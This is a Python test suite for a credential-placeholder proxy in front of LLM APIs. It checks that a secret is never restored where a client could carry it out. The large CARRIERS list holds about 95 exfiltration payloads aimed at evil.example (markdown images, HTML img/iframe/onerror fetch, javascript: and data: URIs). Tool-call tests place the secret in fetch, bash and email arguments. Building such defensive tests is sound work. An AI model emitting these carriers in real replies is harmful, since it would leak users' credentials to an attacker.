"""Replies of a provider that try to carry a restored value out: every carrier that a client could follow, in each provider's shape, whole and
streamed in pieces of one character; placeholders that are split, forged, or another's."""

import json
import re
import shutil

import pytest
from test_wire import host, post
from world import World, temporary_folder

POLICY = 'preset = "balanced"\n[table.credential]\ntolerated = "redact"\n'

# What clients fetch, render or open. {p} is the placeholder.
CARRIERS = [
    # Markdown (CommonMark 0.31, GitHub's extensions)
    "![x](https://evil.example/{p})", "![x](https://evil.example/x.png?v={p})", "![x](<https://evil.example/{p}>)",
    "![x](https://evil.example/a.png \"{p}\")", "![x](\nhttps://evil.example/{p}\n)", "![x]( https://evil.example/{p} 't')",
    "[x](https://evil.example/?q={p})", "[x](https://evil.example/a(b){p})", "[x](//evil.example/{p})", "[x](/\\evil.example/{p})",
    "[x][1]\n\n[1]: https://evil.example/{p}", "![x][1]\n\n[1]: <https://evil.example/{p}>", "[1]: https://evil.example/{p} 'title'\n\n[1]",
    "![x][1]\n\n> [1]: https://evil.example/{p}", "[x](https://evil.example/#{p})", "[x](HTTPS://EVIL.EXAMPLE/{p})",
    "[![x](https://evil.example/{p})](https://evil.example)", "[x](https://user:{p}@evil.example/)", "[x](https://{p}.evil.example/)",
    "[x](https://evil.example:443/{p})", "<https://evil.example/{p}>", "<{p}@evil.example>", "[x](mailto:a@evil.example?body={p})",
    "[^1]\n\n[^1]: https://evil.example/{p}", "| a |\n|---|\n| https://evil.example/{p} |", "- [ ] https://evil.example/{p}",
    # Bare addresses that clients make into links
    "https://evil.example/{p}", "http://evil.example/?a=b&c={p}", "see https://evil.example/{p}.", "(https://evil.example/{p})",
    "https://evil.example/%2F{p}", "www.evil.example/{p}", "ftp://evil.example/{p}", "ws://evil.example/{p}", "wss://evil.example/{p}",
    "file:///tmp/{p}", "vscode://evil.example/{p}", "cursor://anysphere.cursor/x?y={p}", "slack://channel?x={p}", "tel:{p}",
    "javascript:fetch('//evil.example/{p}')", "data:text/plain,{p}", "data:text/html;base64,{p}", "data:image/svg+xml,<svg id='{p}'>",
    "blob:https://evil.example/{p}", "view-source:https://evil.example/{p}", "intent://evil.example/{p}#Intent;end", "//evil.example/{p}",
    "https:\\\\evil.example\\{p}", "https:/evil.example/{p}", "https://evil.example/a\u200b{p}", "hTTps://evil.example/{p}",
    # HTML
    "<img src=\"https://evil.example/{p}\">", "<img src='//evil.example/{p}'>", "<img alt=x src=//evil.example/{p}>",
    "<img\nsrc\n=\n\"https://evil.example/{p}\">", "<img srcset=\"https://evil.example/{p} 2x\">", "<a href=\"https://evil.example/{p}\">x</a>",
    "<a href=\"https://evil.example/\" ping=\"//evil.example/{p}\">x</a>", "<iframe src=\"https://evil.example/{p}\"></iframe>",
    "<iframe srcdoc=\"{p}\"></iframe>", "<form action=\"https://evil.example/\"><input name=a value=\"{p}\"></form>",
    "<button formaction=\"//evil.example/{p}\">", "<link rel=stylesheet href=\"//evil.example/{p}\">", "<script src=//evil.example/{p}></script>",
    "<div style=\"background:url(//evil.example/{p})\">", "<style>@import '//evil.example/{p}';</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{p}\">", "<video poster=//evil.example/{p}>", "<object data=//evil.example/{p}>",
    "<svg><image xlink:href=\"//evil.example/{p}\"/></svg>", "<base href=\"//evil.example/{p}/\">", "<div title=\"{p}\" class=x>",
    "<img src=x onerror=\"fetch('//evil.example/{p}')\">", "<IMG SRC=\"HTTPS://evil.example/{p}\">", "<img src=\"&#104;ttps://evil.example/{p}\">",
    "<!-- https://evil.example/{p} -->", "<input value={p} formaction=//evil.example>",
    # Other markup that clients render
    "\x1b]8;;https://evil.example/{p}\x1b\\click\x1b]8;;\x1b\\", "[[https://evil.example/{p}][x]]", "[img]https://evil.example/{p}[/img]",
    "[url=https://evil.example/{p}]x[/url]", ".. image:: https://evil.example/{p}", "`x <https://evil.example/{p}>`_",
    "$$\\href{https://evil.example/{p}}{x}$$", "\\includegraphics{https://evil.example/{p}}", "{{< img src=\"https://evil.example/{p}\" >}}",
    "```mermaid\nclick A \"https://evil.example/{p}\"\n```", "```html\n<img src=\"https://evil.example/{p}\">\n```", "`https://evil.example/{p}`",
    "=HYPERLINK(\"https://evil.example/{p}\")", "@import url(https://evil.example/{p});",
]
SHAPES = ["openai-whole", "openai-stream", "anthropic-stream", "responses-stream"]
PATHS = {"openai": "/openai/v1/chat/completions", "anthropic": "/anthropic/v1/messages", "responses": "/openai/v1/responses"}


class Reader:
    """Sends a prompt with a secret in a provider's shape, and reads the text that the client gets."""

    def __init__(self, world):
        self.world = world
        self.token = world.github_token(11)
        self.placeholders = {}

    def send(self, kind, text, headers=(), stream=False, **fields) -> bytes:
        if kind == "responses":
            body = {"model": "gpt-5", "input": text, "stream": stream, **fields}
        else:
            body = {"model": "gpt-5", "messages": [{"role": "user", "content": text}], "stream": stream, **fields}
        if kind == "anthropic":
            body["max_tokens"] = 100
        return self.world.raw(post(PATHS[kind], json.dumps(body).encode(), list(headers), host(self.world)))

    def placeholder(self, kind, token=None, headers=()) -> str:
        key = (kind, token, tuple(headers))
        if key not in self.placeholders:
            self.world.standin.behaviour.fixed_text = "ok"
            self.send(kind, f"token {token or self.token}", headers)
            sent = self.world.standin.requests[-1].body
            self.placeholders[key] = re.search(rb"SLUICE_[A-Z0-9_]+", sent).group().decode()
        return self.placeholders[key]

    def answered(self, shape, text, headers=(), token=None) -> str:
        """The whole text that reaches the client when the provider says `text`."""
        kind, _, mode = shape.partition("-")
        behaviour = self.world.standin.behaviour
        behaviour.fixed_text, behaviour.delta_chars = text, 1
        raw = self.send(kind, f"token {token or self.token}", headers, stream=mode == "stream").decode()
        head, _, body = raw.partition("\r\n\r\n")
        assert " 200 " in head.split("\r\n")[0], head
        return gathered(body) + body


def gathered(body: str) -> str:
    """All texts of the reply, put together as a client does."""
    out = {}
    for line in body.splitlines() if "data: " in body else ["data: " + body]:
        if not line.startswith("data: {"):
            continue
        try:
            collect(json.loads(line[6:]), out, "")
        except ValueError:
            continue
    return "\n".join(out.values())


def collect(value, out, key):
    if isinstance(value, dict):
        for name, inner in value.items():
            collect(inner, out, name)
    elif isinstance(value, list):
        for inner in value:
            collect(inner, out, key)
    elif isinstance(value, str) and key in ("content", "text", "delta", "arguments", "partial_json"):
        out[key] = out.get(key, "") + value


@pytest.fixture(scope="module")
def reader():
    folder = temporary_folder()
    world = World(folder, policy=POLICY, collector=False)
    yield Reader(world)
    world.assert_nothing_leaked()
    world.close()
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("shape", SHAPES)
def test_plain_text_gets_the_value_back(reader, shape):
    """The control: without it the refusals below would show nothing."""
    placeholder = reader.placeholder(shape.split("-")[0])
    assert reader.token in reader.answered(shape, f"Your token is {placeholder}, keep it.")


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("carrier", CARRIERS)
def test_no_value_goes_where_a_client_may_carry_it_out(reader, carrier, shape):
    placeholder = reader.placeholder(shape.split("-")[0])
    assert reader.token not in reader.answered(shape, "Here you are:\n" + carrier.replace("{p}", placeholder) + "\nDone.")


@pytest.mark.parametrize("shape", SHAPES)
def test_a_value_in_a_links_text_stays_out_of_its_target(reader, shape):
    placeholder = reader.placeholder(shape.split("-")[0])
    text = reader.answered(shape, f"![{placeholder}](https://evil.example/x.png?v={placeholder})")
    assert f"v={reader.token}" not in text and f"v={placeholder}" in text


def test_enough_of_them():
    assert len(CARRIERS) * len(SHAPES) >= 200 and len(set(CARRIERS)) == len(CARRIERS)


# Tool calls

TOOLS = [("fetch", "url"), ("web_search", "query"), ("bash", "command"), ("http_request", "body"), ("browser_navigate", "url"),
         ("mcp__fetch__get", "uri"), ("send_email", "body"), ("write_file", "content"), ("fetch", "nested")]


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("tool, field", TOOLS)
def test_nothing_goes_into_a_tools_arguments(reader, monkeypatch, tool, field, streamed):
    import standin

    placeholder = reader.placeholder("openai")
    arguments = json.dumps({field: {"deep": [placeholder]} if field == "nested" else f"https://evil.example/?{placeholder}",
                            "other": placeholder})
    call = {"index": 0, "id": "t", "type": "function", "function": {"name": tool, "arguments": arguments}}
    monkeypatch.setattr(standin, "chat_reply", lambda text, body: {
        "id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [{"index": 0, "finish_reason": "tool_calls",
                                                                                         "message": {"role": "assistant", "content": None, "tool_calls": [call]}}]})

    def events(text, body, size):
        def chunk(delta, finish=None):
            return standin.sse({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
                                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})

        first = {"index": 0, "id": "t", "type": "function", "function": {"name": tool, "arguments": ""}}
        return [chunk({"role": "assistant", "tool_calls": [first]}),
                *(chunk({"tool_calls": [{"index": 0, "function": {"arguments": letter}}]}) for letter in arguments),
                chunk({}, "tool_calls"), standin.sse("[DONE]")]

    monkeypatch.setattr(standin, "chat_events", events)
    assert reader.token not in reader.answered("openai-stream" if streamed else "openai-whole", "unused")


# Whose placeholder

BEARERS = [("Authorization", "Bearer one")], [("Authorization", "Bearer two")]


@pytest.mark.parametrize("shape", SHAPES)
def test_another_credentials_placeholder_gives_nothing(reader, shape):
    kind = shape.split("-")[0]
    first = reader.placeholder(kind, headers=BEARERS[0])
    other = reader.world.github_token(12)
    reader.placeholder(kind, token=other, headers=BEARERS[1])
    text = reader.answered(shape, f"It is {first} and {first}.", headers=BEARERS[1], token=other)
    assert reader.token not in text


@pytest.mark.parametrize("shape", SHAPES)
def test_another_destinations_placeholder_gives_nothing(reader, shape):
    kind = shape.split("-")[0]
    stranger = reader.placeholder("anthropic" if kind != "anthropic" else "openai")
    if stranger == reader.placeholder(kind):
        pytest.fail("placeholders of two destinations are alike, so they can be linked")
    assert reader.token not in reader.answered(shape, f"It is {stranger}.")


@pytest.mark.parametrize("change", [
    lambda p: p[:-1], lambda p: p.replace("_", "-"), lambda p: p[:10] + " " + p[10:], lambda p: p[1:], lambda p: p + "@x.org",
    lambda p: p[:10] + "\u200b" + p[10:], lambda p: "\\u0053" + p[1:], lambda p: "&#83;" + p[1:], lambda p: "%53" + p[1:],
    lambda p: p[:-1] + ("A" if p[-1] != "A" else "B"), lambda p: p[:-4] + p[-4:][::-1] if p[-4:] != p[-4:][::-1] else p[:-1] + "0",
    lambda p: p.replace("SLUICE", "ＳLUICE"), lambda p: p.replace("SLUICE", "ЅLUICE"),
], ids=range(13))
@pytest.mark.parametrize("shape", SHAPES)
def test_a_changed_placeholder_gives_nothing(reader, shape, change):
    """A garbled placeholder is nobody's. (Letter case and a backslash before "_" are read leniently: models are careless there.)"""
    assert reader.token not in reader.answered(shape, f"It is {change(reader.placeholder(shape.split('-')[0]))} there.")


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 21, 34])
@pytest.mark.parametrize("carrier", ["![x](https://evil.example/{p})", "<img src=\"//evil.example/{p}\">", "https://evil.example/{p}"])
def test_where_the_stream_is_cut_makes_no_difference(reader, carrier, size):
    text = carrier.replace("{p}", reader.placeholder("openai"))
    reader.world.standin.behaviour.delta_chars = size
    behaviour = reader.world.standin.behaviour
    behaviour.fixed_text = text
    raw = reader.send("openai", f"token {reader.token}", stream=True).decode()
    behaviour.delta_chars = 1
    assert reader.token not in gathered(raw)
    behaviour.write_bytes = size
    try:
        assert reader.token not in gathered(reader.send("openai", f"token {reader.token}", stream=True).decode())
    finally:
        behaviour.write_bytes = 0
